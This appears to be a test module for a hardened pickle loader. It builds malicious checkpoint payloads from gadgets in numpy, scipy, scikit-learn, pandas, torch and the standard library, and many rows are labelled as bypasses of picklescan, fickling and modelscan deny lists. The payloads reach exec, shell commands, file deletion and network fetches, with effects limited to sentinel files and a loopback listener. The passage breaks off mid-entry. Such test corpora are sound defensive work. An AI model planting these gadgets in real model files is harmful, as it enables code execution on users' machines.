"""Gadgets: hostile data.pkl payloads built from code that is already installed.

`hostile.py` attacks the loader with the obvious (os.system, eval, nested
pickle.loads). This corpus attacks the rules a careful loader is built on
(a global is a class or a reviewed function; trusting a package admits its
classes, never its functions; state goes only to instances the load built;
bound methods are never called) with gadgets found in the libraries a model
checkpoint legitimately names -- numpy, scipy, scikit-learn, pandas, torch --
and with the tricks public bypass collections (picklescan, fickling,
modelscan, torch `weights_only` advisories) use against deny lists.

Each `Gadget` is one row: a payload written opcode by opcode, where it comes
from, and what it does if it runs. Every effect is observable from outside
the loader: it creates `WORK/sentinel` (or any new file or directory under
WORK), damages `WORK/victim/keep.txt`, writes `MARK` somewhere under WORK,
connects to a loopback listener at `WORK.port`, or changes process state
(os.environ, sys.path, sys.modules, copyreg, logging, warnings, numpy,
torch, sklearn or pandas settings, exit hooks, threads). Files a payload
needs (an .npy to load, a zip to extract) are written at plant time, before
the workspace is snapshotted, as an attacker ships them next to the model.
"""

from __future__ import annotations

import io
import json
import pickle
import pickletools
import shutil
import sys
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from conftest import rewrite_member
from hostile import (
    BUILD,
    EMPTY_DICT,
    EMPTY_TUPLE,
    MARK,
    NONE,
    SETITEMS,
    TRUE,
    TUPLE,
    RunsShell,
    blob,
    call,
    glob,
    items,
    keywords,
    number,
    pkl,
    text,
)

FALSE, NEWOBJ, NEWOBJ_EX = b"\x89", b"\x81", b"\x92"

MARK_TEXT = "ckpt-gadget-ran"
"""Attacker text: a payload that writes a file writes this."""

PRECIOUS = "precious"


# --- the workspace an attack runs against ---------------------------------------


@dataclass(frozen=True)
class Work:
    """Where one planted attack lives, and the listener it may connect to."""

    root: Path
    port: int

    @property
    def sentinel(self) -> str:
        return str(self.root / "sentinel")

    @property
    def victim_dir(self) -> str:
        return str(self.root / "victim")

    @property
    def keep(self) -> str:
        return str(self.root / "victim" / "keep.txt")

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/model.bin"

    def file(self, name: str) -> str:
        return str(self.root / name)

    def touch(self) -> str:
        """A shell command with a visible effect."""
        return f"touch {self.sentinel}"

    def python(self) -> str:
        """Python source with a visible effect."""
        return f"open({self.sentinel!r}, 'w').write({MARK_TEXT!r})\n"


# --- spelling more of pickle ----------------------------------------------------


def tup(*values: bytes) -> bytes:
    return MARK + b"".join(values) + TUPLE


def mapping(**values: bytes) -> bytes:
    return EMPTY_DICT + MARK + b"".join(text(k) + v for k, v in values.items()) + SETITEMS


def attr(obj: bytes, name: str) -> bytes:
    """getattr(obj, name): a bound method of something the load built."""
    return call(glob("builtins", "getattr"), obj, text(name))


def method(obj: bytes, name: str, *args: bytes) -> bytes:
    return call(attr(obj, name), *args)


def new(cls: bytes, *args: bytes) -> bytes:
    """NEWOBJ: cls.__new__(cls, *args)."""
    return cls + tup(*args) + NEWOBJ


def new_ex(cls: bytes, args: tuple[bytes, ...], kwargs: dict[str, bytes]) -> bytes:
    """NEWOBJ_EX: cls.__new__(cls, *args, **kwargs)."""
    return cls + tup(*args) + mapping(**kwargs) + NEWOBJ_EX


def built(obj: bytes, state: bytes) -> bytes:
    """BUILD: obj.__setstate__(state), or obj.__dict__.update(state)."""
    return obj + state + BUILD


def text_array(data: bytes) -> bytes:
    """A uint8 numpy array holding `data`, as numpy pickles arrays."""
    array = call(glob("numpy._core.multiarray", "_reconstruct"), glob("numpy", "ndarray"), tup(number(0)), blob(b"b"))
    dtype = call(glob("numpy", "dtype"), text("u1"), FALSE, TRUE)
    return built(array, tup(number(1), tup(number(len(data))), dtype, FALSE, blob(data)))


def shell_pickle(work: Work) -> bytes:
    """What plain pickle writes for an object whose __reduce__ is os.system."""
    return pickle.dumps(RunsShell(work.touch()), protocol=4)


# --- files an attacker ships next to the checkpoint ------------------------------


def shipped_npy(work: Work) -> str:
    import numpy as np

    array = np.empty(1, dtype=object)
    array[0] = RunsShell(work.touch())
    np.save(work.file("shipped.npy"), array, allow_pickle=True)
    return work.file("shipped.npy")


def npy_bytes(work: Work) -> bytes:
    import numpy as np

    array = np.empty(1, dtype=object)
    array[0] = RunsShell(work.touch())
    out = io.BytesIO()
    np.save(out, array, allow_pickle=True)
    return out.getvalue()


def shipped(work: Work, name: str, data: bytes) -> str:
    Path(work.file(name)).write_bytes(data)
    return work.file(name)


def shipped_zip(work: Work) -> str:
    with zipfile.ZipFile(work.file("shipped.zip"), "w") as archive:
        archive.writestr("unpacked/note.txt", MARK_TEXT)
    return work.file("shipped.zip")


def shipped_tar(work: Work) -> str:
    with tarfile.open(work.file("shipped.tar"), "w") as archive:
        raw = MARK_TEXT.encode()
        info = tarfile.TarInfo("unpacked/note.txt")
        info.size = len(raw)
        archive.addfile(info, io.BytesIO(raw))
    return work.file("shipped.tar")


def shipped_pyzip(work: Work) -> str:
    with zipfile.ZipFile(work.file("shipped_mod.zip"), "w") as archive:
        archive.writestr("ckpt_gadget_zipped.py", work.python())
    return work.file("shipped_mod.zip")


# --- the rows -----------------------------------------------------------------


@dataclass(frozen=True)
class Gadget:
    name: str
    source: str
    """Where the gadget is: the library file or the public collection it is ported from."""
    effect: str
    """What it does when it runs."""
    payload: Callable[[Work], bytes]
    shows: tuple[str, ...] = ("files",)
    """What reveals that it ran: "files" (anything new or changed under WORK),
    "connect" (the listener was reached), "state" (the process changed),
    "audit" (a recorded audit event)."""
    requires: tuple[str, ...] = ()
    """Modules it needs; the real-gadget test skips when one is missing."""

    def plant(self, path: Path, work: Work) -> bytes:
        data = self.payload(work)
        rewrite_member(path, "data.pkl", data)
        return data


def memmap_args(path: str, mode: str) -> tuple[bytes, ...]:
    return text(path), text("u1"), text(mode), number(0), tup(number(len(MARK_TEXT)))


def numpy_gadgets() -> list[Gadget]:
    src = "numpy " + _version("numpy")
    return [
        Gadget("numpy.memmap(mode='w+') by REDUCE on the class", f"{src} numpy/_core/memmap.py memmap.__new__",
               "creates WORK/sentinel", lambda w: pkl(call(glob("numpy", "memmap"), *memmap_args(w.sentinel, "w+"))),
               requires=("numpy",)),
        Gadget("numpy.memmap(mode='w+') by NEWOBJ", f"{src} memmap.__new__ (cls.__new__ does the open)",
               "creates WORK/sentinel", lambda w: pkl(new(glob("numpy", "memmap"), *memmap_args(w.sentinel, "w+"))),
               requires=("numpy",)),
        Gadget("numpy.memmap truncating a file by NEWOBJ_EX", f"{src} memmap.__new__ with keywords",
               "truncates WORK/victim/keep.txt", lambda w: pkl(new_ex(
                   glob("numpy", "memmap"), (text(w.keep),),
                   {"dtype": text("u1"), "mode": text("w+"), "shape": tup(number(1))})), requires=("numpy",)),
        Gadget("numpy.memmap through copyreg.__newobj__", f"{src} memmap.__new__ via copyreg.__newobj__ (pickle's own helper)",
               "creates WORK/sentinel", lambda w: pkl(call(glob("copyreg", "__newobj__"), glob("numpy", "memmap"),
                                                          *memmap_args(w.sentinel, "w+"))), requires=("numpy",)),
        Gadget("numpy.lib.format.open_memmap", f"{src} numpy/lib/_format_impl.py open_memmap",
               "writes an .npy header to WORK/sentinel", lambda w: pkl(call(
                   glob("numpy.lib.format", "open_memmap"), text(w.sentinel), text("w+"), text("u1"),
                   tup(number(4)))), requires=("numpy",)),
        Gadget("numpy.lib._npyio_impl.load(allow_pickle=True)", f"{src} numpy/lib/_npyio_impl.py load -> pickle.load",
               "unpickles a shipped .npy whose object runs touch", lambda w: pkl(keywords(
                   glob("numpy.lib._npyio_impl", "load"), (text(shipped_npy(w)),), {"allow_pickle": TRUE})),
               requires=("numpy",)),
        Gadget("numpy.lib.format.read_array(io.BytesIO, allow_pickle=True)",
               f"{src} numpy/lib/_format_impl.py read_array -> pickle.load",
               "unpickles embedded .npy bytes whose object runs touch", lambda w: pkl(call(
                   glob("numpy.lib.format", "read_array"), call(glob("io", "BytesIO"), blob(npy_bytes(w))), TRUE)),
               requires=("numpy",)),
        Gadget("numpy.ndarray.tofile via getattr", f"{src} ndarray.tofile, a bound method of an array the load built",
               "writes MARK to WORK/sentinel", lambda w: pkl(method(text_array(MARK_TEXT.encode()), "tofile",
                                                                   text(w.sentinel))), requires=("numpy",)),
        Gadget("numpy.ndarray.tofile as an unbound method", f"{src} ndarray.tofile named as numpy:ndarray.tofile",
               "writes MARK to WORK/sentinel", lambda w: pkl(call(glob("numpy", "ndarray.tofile"),
                                                                  text_array(MARK_TEXT.encode()), text(w.sentinel))),
               requires=("numpy",)),
        Gadget("numpy.save", f"{src} numpy.save", "writes WORK/sentinel.npy", lambda w: pkl(call(
            glob("numpy", "save"), text(w.sentinel), text_array(MARK_TEXT.encode()))), requires=("numpy",)),
        Gadget("numpy.savetxt", f"{src} numpy.savetxt", "writes WORK/sentinel", lambda w: pkl(call(
            glob("numpy", "savetxt"), text(w.sentinel), text_array(b"\x01"))), requires=("numpy",)),
        Gadget("numpy.lib._datasource.open of a URL", f"{src} numpy/lib/_datasource.py DataSource.open -> urlopen",
               "connects to the listener (and would cache the download under WORK)", lambda w: pkl(call(
                   glob("numpy.lib._datasource", "open"), text(w.url), text("r"), text(w.file("cache")))),
               shows=("connect",), requires=("numpy",)),
        Gadget("numpy.seterr(all='raise')", f"{src} numpy.seterr", "changes numpy's error state",
               lambda w: pkl(keywords(glob("numpy", "seterr"), (), {"all": text("raise")})), shows=("state",),
               requires=("numpy",)),
        Gadget("numpy.random.seed", f"{src} numpy.random.seed", "reseeds numpy's global generator",
               lambda w: pkl(call(glob("numpy.random", "seed"), number(1234))), shows=("state",), requires=("numpy",)),
        Gadget("numpy.ctypeslib.load_library", f"{src} numpy/ctypeslib load_library -> ctypes.CDLL",
               "dlopens a shared library (any path the file names)", lambda w: pkl(call(
                   glob("numpy.ctypeslib", "load_library"), text("libc.so.6"), text(_libc_dir()))),
               shows=("audit",), requires=("numpy",)),
    ]


def scipy_gadgets() -> list[Gadget]:
    src = "scipy " + _version("scipy")

    def template(w: Work) -> bytes:
        return mapping(_parse_arg_template=text(w.python()))

    return [
        Gadget("scipy.stats norm_gen.__setstate__ execs _parse_arg_template",
               f"{src} scipy/stats/_distn_infrastructure.py rv_generic.__setstate__ -> _attach_argparser_methods -> exec",
               "execs Python from the BUILD state: writes MARK to WORK/sentinel", lambda w: pkl(built(
                   new(glob("scipy.stats._continuous_distns", "norm_gen")), template(w))), requires=("scipy",)),
        Gadget("scipy.stats poisson_gen.__setstate__ execs _parse_arg_template",
               f"{src} rv_discrete._attach_methods -> _attach_argparser_methods -> exec",
               "execs Python from the BUILD state: writes MARK to WORK/sentinel", lambda w: pkl(built(
                   new(glob("scipy.stats._discrete_distns", "poisson_gen")), template(w))), requires=("scipy",)),
        Gadget("scipy.stats rv_continuous base class with an exec template",
               f"{src} rv_continuous (the public base class) __setstate__ -> exec",
               "execs Python from the BUILD state", lambda w: pkl(built(
                   new(glob("scipy.stats", "rv_continuous")), template(w))), requires=("scipy",)),
        Gadget("scipy.io.FortranFile(mode='w') constructed", f"{src} scipy/io/_fortran.py FortranFile.__init__ -> open(w+b)",
               "creates WORK/sentinel", lambda w: pkl(call(glob("scipy.io", "FortranFile"), text(w.sentinel), text("w"))),
               requires=("scipy",)),
        Gadget("scipy.io.netcdf_file(mode='w') constructed", f"{src} scipy/io/_netcdf.py netcdf_file.__init__ -> open(wb)",
               "creates WORK/sentinel", lambda w: pkl(call(glob("scipy.io", "netcdf_file"), text(w.sentinel), text("w"))),
               requires=("scipy",)),
        Gadget("scipy.io.FortranFile truncating a file", f"{src} FortranFile.__init__ -> open(w+b)",
               "truncates WORK/victim/keep.txt", lambda w: pkl(call(glob("scipy.io._fortran", "FortranFile"),
                                                                    text(w.keep), text("w"))), requires=("scipy",)),
        Gadget("scipy.io.savemat", f"{src} scipy/io/matlab savemat", "writes WORK/sentinel",
               lambda w: pkl(call(glob("scipy.io", "savemat"), text(w.sentinel), mapping(x=number(1)))),
               requires=("scipy",)),
        Gadget("scipy.io.mmwrite", f"{src} scipy/io/_mmio.py mmwrite", "writes WORK/sentinel.mtx",
               lambda w: pkl(call(glob("scipy.io", "mmwrite"), text(w.sentinel),
                                  call(glob("numpy", "array"), items(items(number(1)))))), requires=("scipy",)),
    ]


def sklearn_gadgets() -> list[Gadget]:
    src = "scikit-learn " + _version("sklearn")
    return [
        Gadget("sklearn.datasets.clear_data_home", f"{src} sklearn/datasets/_base.py clear_data_home -> shutil.rmtree",
               "deletes WORK/victim", lambda w: pkl(call(glob("sklearn.datasets", "clear_data_home"),
                                                         text(w.victim_dir))), requires=("sklearn",)),
        Gadget("sklearn.datasets.get_data_home", f"{src} sklearn/datasets/_base.py get_data_home -> os.makedirs",
               "creates the directory WORK/sentinel", lambda w: pkl(call(glob("sklearn.datasets", "get_data_home"),
                                                                       text(w.sentinel))), requires=("sklearn",)),
        Gadget("sklearn.datasets._base._fetch_remote", f"{src} _fetch_remote -> urlretrieve (what every fetch_* uses)",
               "connects to the listener", lambda w: pkl(keywords(
                   glob("sklearn.datasets._base", "_fetch_remote"),
                   (call(glob("sklearn.datasets._base", "RemoteFileMetadata"), text("f"), text(w.url), text("0" * 64)),),
                   {"dirname": text(str(w.root)), "n_retries": number(0)})), shows=("connect",),
               requires=("sklearn",)),
        Gadget("sklearn.datasets.dump_svmlight_file", f"{src} sklearn/datasets/_svmlight_format_io.py dump_svmlight_file",
               "writes WORK/sentinel", lambda w: pkl(call(glob("sklearn.datasets", "dump_svmlight_file"),
                                                          items(items(number(1))), items(number(1)), text(w.sentinel))),
               requires=("sklearn",)),
        Gadget("sklearn.utils._testing.assert_run_python_script_without_output",
               f"{src} sklearn/utils/_testing.py: writes the source to a file and runs it in a subprocess",
               "runs attacker Python in a new interpreter: writes MARK to WORK/sentinel", lambda w: pkl(call(
                   glob("sklearn.utils._testing", "assert_run_python_script_without_output"), text(w.python()))),
               requires=("sklearn",)),
        Gadget("sklearn.set_config", f"{src} sklearn/_config.py set_config", "changes scikit-learn's global config",
               lambda w: pkl(call(glob("sklearn", "set_config"), TRUE)), shows=("state",), requires=("sklearn",)),
        Gadget("joblib.load of a shipped file", "joblib " + _version("joblib") + " (scikit-learn's persistence) numpy_pickle.load",
               "unpickles a shipped joblib file whose object runs touch", lambda w: pkl(call(
                   glob("joblib", "load"), text(_joblib_file(w)))), requires=("joblib",)),
    ]


def pandas_gadgets() -> list[Gadget]:
    src = "pandas " + _version("pandas")
    return [
        Gadget("pandas.read_pickle", f"{src} pandas/io/pickle.py read_pickle -> pickle.load",
               "unpickles a shipped pickle that runs touch", lambda w: pkl(call(
                   glob("pandas", "read_pickle"), text(shipped(w, "shipped.pkl", shell_pickle(w))))),
               requires=("pandas",)),
        Gadget("pandas.compat.pickle_compat.loads", f"{src} pandas/compat/pickle_compat.py loads -> Unpickler.load",
               "unpickles embedded bytes that run touch", lambda w: pkl(call(
                   glob("pandas.compat.pickle_compat", "loads"), blob(shell_pickle(w)))), requires=("pandas",)),
        Gadget("pandas.eval calling a method of a local", f"{src} pandas/core/computation/expr.py visit_Call calls what it resolves",
               "calls ndarray.tofile from an expression: writes MARK to WORK/sentinel", lambda w: pkl(keywords(
                   glob("pandas", "eval"), (text(f"a.tofile({w.sentinel!r})"),),
                   {"local_dict": mapping(a=text_array(MARK_TEXT.encode())), "engine": text("python")})),
               requires=("pandas",)),
        Gadget("pandas.DataFrame.eval via getattr", f"{src} DataFrame.eval -> pandas.eval, a bound method of a frame the load built",
               "calls ndarray.tofile from an expression", lambda w: pkl(keywords(
                   attr(call(glob("pandas", "DataFrame")), "eval"), (text(f"@a.tofile({w.sentinel!r})"),),
                   {"local_dict": mapping(a=text_array(MARK_TEXT.encode())), "engine": text("python")})),
               requires=("pandas",)),
        Gadget("pandas.DataFrame.to_csv via getattr", f"{src} DataFrame.to_csv, a bound method of a frame the load built",
               "writes WORK/sentinel", lambda w: pkl(method(call(glob("pandas", "DataFrame"), mapping(
                   x=items(text(MARK_TEXT)))), "to_csv", text(w.sentinel))), requires=("pandas",)),
        Gadget("pandas.read_csv of a URL", f"{src} pandas/io/common.py urlopen", "connects to the listener",
               lambda w: pkl(call(glob("pandas", "read_csv"), text(w.url))), shows=("connect",), requires=("pandas",)),
        Gadget("pandas.set_option", f"{src} pandas/_config/config.py set_option", "changes pandas' global options",
               lambda w: pkl(call(glob("pandas", "set_option"), text("display.max_rows"), number(3))),
               shows=("state",), requires=("pandas",)),
    ]


def torch_gadgets() -> list[Gadget]:
    src = "torch " + _version("torch")
    wrapper = "torch.utils.data.datapipes.datapipe"
    return [
        Gadget("torch _IterDataPipeSerializationWrapper.__setstate__ (pickle)",
               f"{src} torch/utils/data/datapipes/datapipe.py _DataPipeSerializationWrapper.__setstate__ -> pickle.loads",
               "unpickles the BUILD state: runs touch", lambda w: pkl(built(
                   new(glob(wrapper, "_IterDataPipeSerializationWrapper")), tup(blob(shell_pickle(w)), FALSE))),
               requires=("torch",)),
        Gadget("torch _MapDataPipeSerializationWrapper.__setstate__ (dill)",
               f"{src} _DataPipeSerializationWrapper.__setstate__ -> dill.loads",
               "dill-unpickles the BUILD state: runs touch", lambda w: pkl(built(
                   new(glob(wrapper, "_MapDataPipeSerializationWrapper")), tup(blob(shell_pickle(w)), TRUE))),
               requires=("torch", "dill")),
        Gadget("torch.fx reduce_graph_module", f"{src} torch/fx/graph_module.py reduce_graph_module -> _forward_from_src -> exec",
               "execs the 'code' of the body: writes MARK to WORK/sentinel", lambda w: pkl(call(
                   glob("torch.fx.graph_module", "reduce_graph_module"), mapping(code=text(w.python())), text(""))),
               requires=("torch",)),
        Gadget("torch.fx _forward_from_src", f"{src} torch/fx/graph_module.py _forward_from_src -> exec",
               "execs source: writes MARK to WORK/sentinel", lambda w: pkl(call(
                   glob("torch.fx.graph_module", "_forward_from_src"), text(w.python()), EMPTY_DICT)),
               requires=("torch",)),
        Gadget("torch.fx _exec_with_source", f"{src} torch/fx/graph_module.py _exec_with_source -> exec(compile())",
               "execs source", lambda w: pkl(call(glob("torch.fx.graph_module", "_exec_with_source"),
                                                  text(w.python()), EMPTY_DICT)), requires=("torch",)),
        Gadget("torch.storage._load_from_bytes of a torch.save'd file",
               f"{src} torch/storage.py _load_from_bytes -> torch.load(weights_only=False)",
               "runs touch", lambda w: pkl(call(glob("torch.storage", "_load_from_bytes"), blob(_torch_file_bytes(w)))),
               requires=("torch",)),
        Gadget("torch.serialization.load(weights_only=False) of a shipped file", f"{src} torch/serialization.py load",
               "runs touch", lambda w: pkl(keywords(glob("torch.serialization", "load"), (text(shipped(
                   w, "shipped.pt", _torch_file_bytes(w))),), {"weights_only": FALSE})), requires=("torch",)),
        Gadget("torch.save", f"{src} torch/serialization.py save", "writes WORK/sentinel",
               lambda w: pkl(call(glob("torch", "save"), text(MARK_TEXT), text(w.sentinel))), requires=("torch",)),
        Gadget("torch.hub.download_url_to_file", f"{src} torch/hub.py download_url_to_file -> urlopen",
               "connects to the listener", lambda w: pkl(call(glob("torch.hub", "download_url_to_file"), text(w.url),
                                                              text(w.sentinel), NONE, FALSE)),
               shows=("connect",), requires=("torch",)),
        Gadget("torch.distributed.FileStore constructed", f"{src} torch.distributed.FileStore (C++ class: creates its file)",
               "creates WORK/sentinel", lambda w: pkl(call(glob("torch.distributed", "FileStore"), text(w.sentinel),
                                                           number(1))), requires=("torch",)),
        Gadget("torch.set_default_dtype", f"{src} torch.set_default_dtype", "changes torch's default dtype",
               lambda w: pkl(call(glob("torch", "set_default_dtype"), glob("torch", "float64"))), shows=("state",),
               requires=("torch",)),
        Gadget("torch _rebuild_from_type_v2 calling torch.manual_seed",
               f"{src} torch/_tensor.py _rebuild_from_type_v2 (a reviewed rebuild function) calls its func argument",
               "reseeds torch's global generator", lambda w: pkl(call(
                   glob("torch._tensor", "_rebuild_from_type_v2"), glob("torch", "manual_seed"), glob("torch", "Tensor"),
                   tup(number(1234)), EMPTY_DICT)), shows=("state",), requires=("torch",)),
        Gadget("torch _rebuild_from_type_v2 calling numpy.save",
               f"{src} torch/_tensor.py _rebuild_from_type_v2 calls a function from another reviewed package",
               "writes WORK/sentinel.npy", lambda w: pkl(call(
                   glob("torch._tensor", "_rebuild_from_type_v2"), glob("numpy", "save"), glob("torch", "Tensor"),
                   tup(text(w.sentinel), text_array(MARK_TEXT.encode())), EMPTY_DICT)), requires=("torch",)),
    ]


def _fork_exec(w: Work) -> bytes:
    touch = shutil.which("touch") or "/usr/bin/touch"
    argv = items(blob(touch.encode()), blob(w.sentinel.encode()))
    minus = number(-1)
    # Python 3.11: args, executable_list, close_fds, pass_fds, cwd, env, 6 pipe ends, the error pipe,
    # (stderr: the child needs a valid one), restore_signals, start_new_session, process_group, gid, gids, uid, umask, preexec_fn, allow_vfork
    return pkl(call(glob("_posixsubprocess", "fork_exec"), argv, items(blob(touch.encode())), FALSE, EMPTY_TUPLE,
                    NONE, NONE, *[minus] * 6, number(2), number(2), FALSE, FALSE, minus, NONE, NONE, NONE, minus, NONE,
                    FALSE))


def _memory_handler(record: Callable[[Work], bytes]) -> Callable[[Work], bytes]:
    """A MemoryHandler buffering the attacker's record in front of a delayed
    FileHandler: nothing is written at load; logging.shutdown flushes the
    buffer into WORK/sentinel at interpreter exit."""

    def payload(w: Work) -> bytes:
        target = call(glob("logging", "FileHandler"), text(w.sentinel), text("a"), NONE, TRUE)
        handler = call(glob("logging.handlers", "MemoryHandler"), number(1000), number(50), target)
        return pkl(built(handler, mapping(buffer=items(record(w)))))

    return payload


def _log_record(w: Work) -> bytes:
    return call(glob("logging", "makeLogRecord"), mapping(msg=text(MARK_TEXT), levelno=number(50)))


def _namespace_record(w: Work) -> bytes:
    """A duck-typed LogRecord: the formatter only needs these attributes."""
    message = call(glob("functools", "partial"), glob("builtins", "str"), text(MARK_TEXT))
    return built(call(glob("types", "SimpleNamespace")), mapping(
        getMessage=message, levelno=number(50), exc_info=NONE, exc_text=NONE, stack_info=NONE, msg=text(MARK_TEXT)))


def _bypass_gadgets() -> list[Gadget]:
    pick = "picklescan/fickling/modelscan deny lists"
    return [
        Gadget("functools.reduce(exec)", f"fickling: functools.reduce as a call gadget ({pick})",
               "execs source: writes MARK to WORK/sentinel", lambda w: pkl(call(
                   glob("functools", "reduce"), glob("builtins", "exec"), items(EMPTY_DICT), text(w.python())))),
        Gadget("operator.methodcaller on a pathlib.Path", "fickling/picklescan: operator.methodcaller",
               "Path.write_text(MARK) on WORK/sentinel", lambda w: pkl(call(call(
                   glob("operator", "methodcaller"), text("write_text"), text(MARK_TEXT)),
                   call(glob("pathlib", "PosixPath"), text(w.sentinel))))),
        Gadget("operator.attrgetter on a pathlib.Path, then called", "picklescan: operator.attrgetter",
               "Path.write_text(MARK) on WORK/sentinel", lambda w: pkl(call(call(call(
                   glob("operator", "attrgetter"), text("write_text")), call(glob("pathlib", "PosixPath"),
                                                                             text(w.sentinel))), text(MARK_TEXT)))),
        Gadget("pathlib.Path.write_text via getattr", "modelscan: a bound method of an object the load built",
               "writes MARK to WORK/sentinel", lambda w: pkl(method(call(glob("pathlib", "PosixPath"),
                                                                         text(w.sentinel)), "write_text",
                                                                    text(MARK_TEXT)))),
        Gadget("pathlib.Path.write_text as pathlib:Path.write_text", "a function reached through a class's qualname",
               "writes MARK to WORK/sentinel", lambda w: pkl(call(glob("pathlib", "Path.write_text"), call(
                   glob("pathlib", "PosixPath"), text(w.sentinel)), text(MARK_TEXT)))),
        Gadget("types.FunctionType of a compiled code object", "fickling: code objects via compile + types.FunctionType",
               "execs source", lambda w: pkl(call(call(glob("types", "FunctionType"), call(
                   glob("builtins", "compile"), text(w.python()), text("<x>"), text("exec")), EMPTY_DICT)))),
        Gadget("types.FunctionType of a marshalled code object", "fickling: marshal.loads + types.FunctionType",
               "execs marshalled code", lambda w: pkl(call(call(glob("types", "FunctionType"), call(
                   glob("marshal", "loads"), blob(_marshalled(w))), EMPTY_DICT)))),
        Gadget("copyreg._reconstructor with a file-opening base", "picklescan: copyreg._reconstructor(cls, base, state)",
               "WatchedFileHandler.__init__ creates WORK/sentinel", lambda w: pkl(call(
                   glob("copyreg", "_reconstructor"), glob("logging.handlers", "WatchedFileHandler"),
                   glob("logging.handlers", "WatchedFileHandler"), text(w.sentinel)))),
        Gadget("type() with three arguments: a new FileHandler subclass", "fickling: type.__new__ builds a class",
               "the new class's __init__ creates WORK/sentinel", lambda w: pkl(call(call(
                   glob("builtins", "type"), text("Evil"), tup(glob("logging", "FileHandler")), EMPTY_DICT),
                   text(w.sentinel)))),
        Gadget("enum.Enum functional API mixing in io.FileIO", "hostile.py's Enum trick with type=io.FileIO",
               "FileIO(keep.txt, 'w') truncates WORK/victim/keep.txt", lambda w: pkl(keywords(
                   glob("enum", "Enum"), (text("E"), items(tup(text("A"), tup(text(w.keep), text("w"))))),
                   {"type": glob("io", "FileIO")}))),
        Gadget("io.FileIO truncating a file", "modelscan: io.FileIO create/truncate",
               "truncates WORK/victim/keep.txt", lambda w: pkl(call(glob("io", "FileIO"), text(w.keep), text("w")))),
        Gadget("timeit.timeit", "picklescan deny list: timeit", "execs the statement",
               lambda w: pkl(keywords(glob("timeit", "timeit"), (text(w.python()),), {"number": number(1)}))),
        Gadget("cProfile.runctx", "picklescan deny list: cProfile/profile", "execs the statement",
               lambda w: pkl(call(glob("cProfile", "runctx"), text(w.python()), EMPTY_DICT, EMPTY_DICT))),
        Gadget("pydoc.pipepager", "picklescan deny list: pydoc.pipepager", "runs a shell command fed MARK: cat > sentinel",
               lambda w: pkl(call(glob("pydoc", "pipepager"), text(MARK_TEXT), text(f"cat > {w.sentinel}")))),
        Gadget("ctypes.CDLL(None).system via getattr", "picklescan deny list: ctypes",
               "calls libc system(): runs touch", lambda w: pkl(call(attr(call(glob("ctypes", "CDLL"), NONE), "system"),
                                                                    blob(w.touch().encode()))),
               requires=("ctypes",)),
        Gadget("asyncio.run(create_subprocess_shell)", "picklescan deny list: asyncio.subprocess",
               "runs touch", lambda w: pkl(call(glob("asyncio", "run"), call(
                   glob("asyncio", "create_subprocess_shell"), text(w.touch()))))),
        Gadget("idlelib.calltip.get_entity evals", "picklescan deny list: idlelib (calltip.get_entity -> eval)",
               "evals an expression that writes MARK", lambda w: pkl(call(
                   glob("idlelib.calltip", "get_entity"), text(f"open({w.sentinel!r}, 'w').write({MARK_TEXT!r})"))),
               requires=("idlelib.calltip",)),
        Gadget("lib2to3 Grammar.loads", "picklescan deny list: lib2to3 (pgen2.grammar.Grammar.loads -> pickle.loads)",
               "unpickles embedded bytes that run touch", lambda w: pkl(method(call(
                   glob("lib2to3.pgen2.grammar", "Grammar")), "loads", blob(shell_pickle(w)))),
               requires=("lib2to3.pgen2.grammar",)),
        Gadget("distutils.spawn.spawn", "picklescan deny list: distutils", "runs touch",
               lambda w: pkl(call(glob("distutils.spawn", "spawn"), items(text("touch"), text(w.sentinel)))),
               requires=("distutils.spawn",)),
        Gadget("venv.create", "picklescan deny list: venv", "creates a virtual environment in WORK/sentinel",
               lambda w: pkl(call(glob("venv", "create"), text(w.sentinel)))),
        Gadget("pip._internal.utils.misc.rmtree", "picklescan deny list: pip", "deletes WORK/victim",
               lambda w: pkl(call(glob("pip._internal.utils.misc", "rmtree"), text(w.victim_dir))),
               requires=("pip._internal.utils.misc",)),
        Gadget("importlib.metadata.EntryPoint.load", "setuptools entry points: EntryPoint('posix:system').load()",
               "imports posix.system by an entry-point string, then runs touch", lambda w: pkl(call(method(call(
                   glob("importlib.metadata", "EntryPoint"), text("x"), text("posix:system"), text("g")), "load"),
                   text(w.touch())))),
        Gadget("_posixsubprocess.fork_exec", "picklescan deny list: _posixsubprocess.fork_exec", "runs touch",
               _fork_exec),
        Gadget("sys.modules.__setitem__ by dotted name", "modelscan: sys.modules modification",
               "plants a fake module in sys.modules", lambda w: pkl(call(glob("sys", "modules.__setitem__"),
                                                                         text("ckpt_gadget_fake"), text(MARK_TEXT))),
               shows=("state",)),
        Gadget("sys.modules reached through a library module's sys", "the loader walks qualnames through modules",
               "plants a fake module in sys.modules", lambda w: pkl(call(glob("torch.serialization", "sys.modules.__setitem__"),
                                                                         text("ckpt_gadget_fake"), text(MARK_TEXT))),
               shows=("state",), requires=("torch",)),
        Gadget("os.environ through a library module's os", "threading._os in hostile.py, ported to scipy",
               "sets an environment variable", lambda w: pkl(call(glob("scipy._lib._util", "os.environ.__setitem__"),
                                                                  text("CKPT_GADGET"), text(MARK_TEXT))),
               shows=("state",), requires=("scipy",)),
        Gadget("sys.path.append through a library module's sys", "modelscan: sys.path modification",
               "puts WORK on sys.path", lambda w: pkl(call(glob("numpy.lib._utils_impl", "sys.path.append"),
                                                           text(str(w.root)))), shows=("state",), requires=("numpy",)),
        Gadget("os module fetched with dict.get from sys.modules", "fickling: a module without find_class returning it",
               "runs touch", lambda w: pkl(call(attr(call(glob("builtins", "dict.get"), glob("sys", "modules"),
                                                          text("os")), "system"), text(w.touch())))),
        Gadget("logging.FileHandler + MemoryHandler flushed at exit", "logging.shutdown flushes every live handler",
               "writes MARK into WORK/sentinel when the interpreter exits", _memory_handler(_log_record)),
        Gadget("MemoryHandler flushing a types.SimpleNamespace record", "a duck-typed LogRecord (no LogRecord needed)",
               "writes MARK into WORK/sentinel when the interpreter exits", _memory_handler(_namespace_record)),
        Gadget("logging.config.fileConfig evals its args", "stdlib logging.config: handler args are eval'd",
               "evals the args of a shipped .ini: writes MARK", lambda w: pkl(call(
                   glob("logging.config", "fileConfig"), text(_shipped_ini(w))))),
        Gadget("logging.config.dictConfig", "modelscan: logging config", "replaces the root logger's level",
               lambda w: pkl(call(glob("logging.config", "dictConfig"), mapping(
                   version=number(1), incremental=FALSE, root=mapping(level=text("DEBUG"))))), shows=("state",)),
        Gadget("logging.config.listen started via getattr", "picklescan deny list: logging.config.listen",
